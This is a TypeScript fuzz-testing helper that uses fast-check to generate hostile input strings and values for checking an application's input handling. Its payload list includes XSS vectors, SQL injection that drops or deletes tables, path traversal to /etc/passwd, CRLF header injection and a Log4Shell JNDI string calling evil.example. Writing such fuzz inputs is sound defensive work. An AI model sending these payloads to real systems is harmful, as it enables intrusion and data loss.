import { fc } from "@fast-check/vitest";

/** What would stand in a page as it is, were it not escaped. */
export const MARKUP = '<img src=x onerror="window.hurt=1"><script>window.hurt=1</script>';

/** Texts on which programs have stumbled. */
const TEXTS: readonly string[] = [
  "",
  " ",
  MARKUP,
  "</script><script>window.hurt=1</script>",
  "\"><svg onload='window.hurt=1'>",
  "javascript:window.hurt=1",
  "{{7*7}}${7*7}<%= 7*7 %>",
  "' or '1'='1",
  "'; drop table players; --",
  "1); delete from matches; --",
  "\\'; select pg_sleep(5); --",
  "nul\0byte",
  "\ud800",
  "\udfff lone",
  "\u202egnp.exe",
  "\ufeff\u200b\u2028\u2029",
  "%00",
  "%",
  "%E0%A4%A",
  "../../../../etc/passwd",
  "..\\..\\windows",
  "//evil.example",
  "/\\evil.example",
  "https://evil.example/",
  "file:///etc/passwd",
  "a\r\nX-Injected: 1",
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "null",
  "undefined",
  "NaN",
  "Infinity",
  "-1",
  "1e309",
  "99999999999999999999999999",
  "0x7f",
  "true",
  "[]",
  "{}",
  "2020-02-30T25:61:61Z",
  "0198a5a0-0000-7000-8000-00000000000g",
  "00000000-0000-0000-0000-000000000000",
  "x".repeat(1001),
  "x".repeat(20_000),
  "\u0301".repeat(2000),
  "🏳️‍🌈".repeat(300),
  "(a+)+$".repeat(50),
  "${jndi:ldap://evil.example/a}",
];

export const hostileText = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...TEXTS) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 60 }) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 60 }) },
);

const number = fc.oneof(
  fc.constantFrom(0, -0, -1, 1.5, 1e21, 1e308, 2 ** 31, 2 ** 53, Number.MIN_VALUE),
  fc.double(),
  fc.integer(),
);

const scalar = fc.oneof(hostileText, number, fc.boolean(), fc.constant(null));

/** A field's value: what it should not be, more often than not. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: scalar },
  { weight: 1, arbitrary: fc.array(scalar, { maxLength: 4 }) },
  { weight: 1, arbitrary: fc.dictionary(hostileText, scalar, { maxKeys: 3 }) },
  { weight: 1, arbitrary: fc.constant(deep(200)) },
);

function deep(levels: number): unknown {
  return levels === 0 ? 1 : [deep(levels - 1)];
}
